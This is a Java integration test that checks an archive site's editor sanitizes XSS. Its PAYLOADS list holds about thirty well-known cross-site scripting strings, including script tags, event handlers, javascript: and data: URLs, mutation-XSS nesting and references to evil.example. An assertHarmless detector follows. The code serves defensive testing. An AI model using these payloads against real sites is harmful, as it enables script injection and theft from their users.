package org.kzarchive.editing;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.redirectedUrlPattern;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.kzarchive.ArchiveIntegrationTest;
import org.kzarchive.system.PagesRenderedAgain;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockMultipartHttpServletRequestBuilder;

/**
 * Well-known XSS payloads written by an editor in the body, the title, a section heading, a caption,
 * a footnote and a timeline label come out harmless on the preview and on every public page.
 */
@ArchiveIntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
public class SanitizerTest {

    public static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<div onclick=\"alert(1)\">click</div>",
            "<a href=\"javascript:alert(1)\">link</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">link</a>",
            "<a href=\"&#106;avascript:alert(1)\">link</a>",
            "<a href=\" javascript:alert(1)\">link</a>",
            "<a href=\"vbscript:msgbox(1)\">link</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">link</a>",
            "[link](javascript:alert(1))",
            "![image](javascript:alert(1))",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
            "<p style=\"background:url(javascript:alert(1))\">styled</p>",
            "<span style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</span>",
            "<style>body{display:none}</style>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<base href=\"https://evil.example/\">",
            "<form action=\"https://evil.example\"><button>go</button></form>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<a href=\"https://example.org\" target=\"_blank\" onmouseover=\"alert(1)\">fine link, bad handler</a>");

    @Autowired
    MockMvc mvc;

    @Autowired
    ConfigurableApplicationContext context;

    private EditingFixtures fixtures;
    private String work;

    @BeforeAll
    void aWorkOfItsOwn() {
        fixtures = new EditingFixtures(context);
        fixtures.editor("xss-editor", false);
        work = fixtures.newWork();
    }

    @AfterAll
    void removeIt() {
        fixtures.removeWorks();
    }

    /** The English test text with the payload in the body, a heading, a caption, a footnote and a timeline label. */
    private String withPayload(String payload) {
        return EditingFixtures.english(work)
                .replace("Opening paragraph of the test.", "Opening paragraph " + payload + " of the test.")
                .replace("## Test interview {#intervista}", "## Interview " + payload + " {#intervista}")
                .replace("Caption of the test photo.", "Caption " + payload)
                .replace("[^1]: Test note.", "[^1]: Note " + payload)
                .replace("| Test event |", "| Event " + payload.replace("|", "") + " |")
                .replace("A: First test answer.", "A: First answer. {#payload-answer}\n\n" + payload);
    }

    private MockMultipartHttpServletRequestBuilder form(String path, String payload) {
        return (MockMultipartHttpServletRequestBuilder) multipart(path)
                .param("work", work).param("language", "en")
                .param("title", "Title " + payload).param("subtitle", "Subtitle " + payload)
                .param("translator", "Translator " + payload)
                .param("markdown", withPayload(payload)).param("action", "publish")
                .with(user("xss-editor").roles("EDITOR")).with(csrf());
    }

    private Document page(org.springframework.test.web.servlet.ResultActions result) throws Exception {
        return Jsoup.parse(result.andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8));
    }

    @ParameterizedTest
    @FieldSource("PAYLOADS")
    void aPayloadIsHarmlessOnThePreviewAndOnEveryPublicPage(String payload) throws Exception {
        assertHarmless(page(mvc.perform(form("/admin/translations/preview", payload))), "preview", payload);
        try {
            mvc.perform(form("/admin/translations", payload)).andExpect(redirectedUrlPattern("/admin/translations/*"));
            // the home page an anonymous reader gets once it is rendered again
            PagesRenderedAgain.await(context);
            for (String path : List.of("", "/interview", "/timeline", "/photos", "/notes")) {
                assertHarmless(page(mvc.perform(get("/en/" + work + path))), "/en/" + work + path, payload);
            }
            assertHarmless(page(mvc.perform(get("/"))), "home page", payload);
            assertHarmless(page(mvc.perform(get("/admin").with(user("xss-editor").roles("EDITOR")))), "translations list", payload);
        } finally {
            fixtures.deleteTranslation(work, "en");
        }
    }

    @Test
    void harmlessHtmlAndMarkdownSurvive() throws Exception {
        Document preview = page(mvc.perform(form("/admin/translations/preview",
                "<em>emphasis</em> **bold** [a link](https://example.org/x) <abbr title=\"Collective Security\">CSTO</abbr>")));
        Element opening = preview.selectFirst("#apertura-1");
        assertThat(opening.select("em").text()).isEqualTo("emphasis");
        assertThat(opening.select("strong").text()).isEqualTo("bold");
        assertThat(opening.select("a[href=https://example.org/x]").attr("rel")).contains("noopener", "noreferrer");
        assertThat(opening.select("abbr[title]").text()).isEqualTo("CSTO");
    }

    @ParameterizedTest
    @FieldSource("PAYLOADS")
    void aPayloadIsHarmlessInSearchExcerpts(String payload) throws Exception {
        try {
            mvc.perform(form("/admin/translations", payload)).andExpect(redirectedUrlPattern("/admin/translations/*"));
            // excerpts are built from the passages' plain text: the payload's words, escaped, never markup
            for (String query : List.of("\"Opening paragraph\"", "Caption", "Note", "Event", "\"First answer\"")) {
                Document results = page(mvc.perform(get("/search").param("q", query).param("lang", "en")));
                assertThat(results.select("li.result")).as(query + " with " + payload).isNotEmpty();
                // the page's own help uses <details>; what the editor wrote can only reach the results list
                assertHarmless(Jsoup.parse(results.select("ol.results").outerHtml()), "search for " + query, payload);
            }
        } finally {
            fixtures.deleteTranslation(work, "en");
        }
    }

    /** No script, no event handler, no javascript:/data: address, no frame, object, style or base on the page. */
    public static void assertHarmless(Document page, String where, String payload) {
        String context = where + " with " + payload;
        // the page's own scripts: the citation pop-up, and linked data that no editor's text can close
        for (Element script : page.select("head > script")) {
            if (script.attr("type").equals("application/ld+json")) {
                assertThat(script.data()).as(context + ": JSON-LD").doesNotContain("<", ">");
                script.remove();
            } else if (script.attr("src").matches("/assets/cite(-[0-9a-f]+)?\\.js")) {
                script.remove();
            }
        }
        assertThat(page.select("script, iframe, frame, object, embed, style, base, meta[http-equiv], link[href*=evil], "
                + "form[action*=evil], template, noscript, svg, math, details, input[autofocus], body[onload]")).as(context).isEmpty();
        for (Element element : page.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name).as(context + ": an event handler on <" + element.tagName() + ">").doesNotStartWith("on");
                assertThat(name).as(context + ": a style attribute on <" + element.tagName() + ">").isNotEqualTo("style");
                if (List.of("href", "src", "action", "formaction", "data", "xlink:href", "poster", "background").contains(name)) {
                    String address = attribute.getValue().replaceAll("[\\s\\p{Cntrl}]", "").toLowerCase(Locale.ROOT);
                    assertThat(address).as(context + ": <" + element.tagName() + " " + name + ">")
                            .doesNotStartWith("javascript:").doesNotStartWith("vbscript:").doesNotStartWith("data:")
                            .doesNotContain("evil.example");
                }
            }
        }
        assertThat(page.outerHtml().toLowerCase(Locale.ROOT)).as(context).doesNotContain("<script", "<iframe", "<style");
    }
}
